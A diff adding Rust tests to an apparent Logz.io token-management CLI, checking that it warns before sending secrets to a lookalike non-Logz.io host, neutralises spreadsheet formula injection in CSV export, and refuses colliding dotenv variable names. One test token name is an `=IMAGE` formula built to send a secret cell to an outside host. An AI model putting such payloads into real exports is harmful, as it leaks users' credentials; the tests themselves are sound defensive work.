@@ -318,3 +318,151 @@ fn a_second_ctrl_c_stops_verify_at_once_and_says_what_it_did() {
         );
     }
 }
+
+// --- 19. verify × a host that is not Logz.io's ---------------------------------------------------
+
+/// Defect 19: `plan` and `apply` warn before the owner token goes to a host that is not a
+/// Logz.io API host; `verify` sent every recorded secret there without a word. It now warns the
+/// same way, naming the host and what is sent, before the first probe.
+#[test]
+fn verify_warns_before_sending_secrets_to_a_host_that_is_not_logzio() {
+    const FOREIGN: &str = "https://api.logz.io.attacker.invalid";
+    let env = Env::new();
+    let server = hostile(|req| {
+        (req.create > 0)
+            .then(|| created(7301, "sub-secret-far-0a9b8c7d"))
+            .flatten()
+    });
+    apply(&env, &server.url, &["ci"], &[]).expect_code(0);
+    // The same state, bound to the foreign URL (as a run against it would have left it).
+    let results = std::fs::read_to_string(env.path("r.json")).unwrap();
+    assert!(results.contains(&server.url), "{results}");
+    std::fs::write(env.path("r.json"), results.replace(&server.url, FOREIGN)).unwrap();
+    let run = verify(&env, FOREIGN, &["--max-attempts", "1"]);
+    assert!(
+        run.stderr.contains(
+            "warning: the API URL's host api.logz.io.attacker.invalid is not a Logz.io API host (api*.logz.io): the secret of each of the 1 token verified is sent to it"
+        ),
+        "{}",
+        run.stderr
+    );
+    assert_absent(&run, "sub-secret-far");
+    // Loopback (the simulator, a local proxy) gets no warning.
+    std::fs::write(env.path("r.json"), results).unwrap();
+    let run = verify(&env, &server.url, &[]);
+    assert!(run.stderr.contains("Verified 1 token"), "{}", run.stderr);
+    assert!(
+        !run.stderr.contains("is not a Logz.io API host"),
+        "{}",
+        run.stderr
+    );
+}
+
+// --- 17 and 18. export × a spreadsheet, export × a shell -----------------------------------------
+
+/// `export m.yaml` of the workspace's r.json / s.json, with `args`.
+fn export(env: &Env, args: &[&str]) -> Run {
+    let mut c = env.cmd();
+    c.args([
+        "export",
+        "m.yaml",
+        "--results",
+        "r.json",
+        "--secrets",
+        "s.json",
+    ])
+    .args(args);
+    env.run_cmd(&mut c, LIMIT)
+}
+
+/// Defect 17: a token name `=IMAGE("https://x/?"&D2)` was written to the CSV as a live formula
+/// next to its secret's cell. Every name a spreadsheet would run (`=`, `+`, `-`, `@`) is now
+/// text, with a `'` before it; the secret is in the file unchanged.
+#[test]
+fn csv_export_writes_no_cell_a_spreadsheet_would_run() {
+    let env = Env::new();
+    let server = hostile(|req| {
+        (req.create > 0)
+            .then(|| {
+                let secret = format!("c498fbc3-a3ac-4676-ad09-68985400000{}", req.create);
+                created(7400 + i64::from(req.create), &secret)
+            })
+            .flatten()
+    });
+    let names = [
+        r#"'=IMAGE("https://x/?"&D2)'"#,
+        "'+cmd'",
+        "'-1+2'",
+        "'@SUM(A1)'",
+        "plain",
+    ];
+    apply(&env, &server.url, &names, &[]).expect_code(0);
+    let run = export(&env, &["--format", "csv", "--stdout"]);
+    run.expect_code(0);
+    let cells: Vec<String> = run
+        .stdout
+        .lines()
+        .skip(1)
+        .map(|l| l.split(',').nth(1).unwrap().to_owned())
+        .collect();
+    for cell in &cells {
+        let text = cell.trim_start_matches('"');
+        assert!(
+            !text.starts_with(['=', '+', '-', '@']),
+            "a live formula: {cell}\n{}",
+            run.stdout
+        );
+    }
+    assert!(
+        cells.contains(&r#""'=IMAGE(""https://x/?""&D2)""#.to_owned()),
+        "{cells:?}"
+    );
+    assert!(
+        cells.contains(&"'+cmd".to_owned()) && cells.contains(&"plain".to_owned()),
+        "{cells:?}"
+    );
+    assert!(
+        run.stdout
+            .contains(",c498fbc3-a3ac-4676-ad09-689854000001\n"),
+        "{}",
+        run.stdout
+    );
+}
+
+/// Defect 18: `ci-deploy`, `ci_deploy` and `CI.Deploy` were exported as one variable three
+/// times with different secrets (a shell keeps the last). Now refused with exit 2, naming both
+/// names and the variable; nothing is written.
+#[test]
+fn dotenv_export_refuses_names_that_map_to_one_variable() {
+    let env = Env::new();
+    let server = hostile(|req| {
+        (req.create > 0)
+            .then(|| {
+                created(
+                    7500 + i64::from(req.create),
+                    &format!("sub-secret-env-{}", req.create),
+                )
+            })
+            .flatten()
+    });
+    apply(
+        &env,
+        &server.url,
+        &["ci-deploy", "ci_deploy", "'CI.Deploy'"],
+        &[],
+    )
+    .expect_code(0);
+    let run = export(&env, &["--format", "dotenv", "--out", "t.env"]);
+    run.expect_code(2);
+    assert!(
+        run.stderr.contains(&format!(
+            "tokens \"ci-deploy\" and \"ci_deploy\" of account {SUB} would both be exported as LOGZIO_TOKEN_{SUB}_CI_DEPLOY"
+        )),
+        "{}",
+        run.stderr
+    );
+    assert_absent(&run, "sub-secret-env");
+    assert!(!env.path("t.env").exists());
+    // JSON keeps the names apart.
+    export(&env, &["--format", "json", "--out", "t.json"]).expect_code(0);
+}
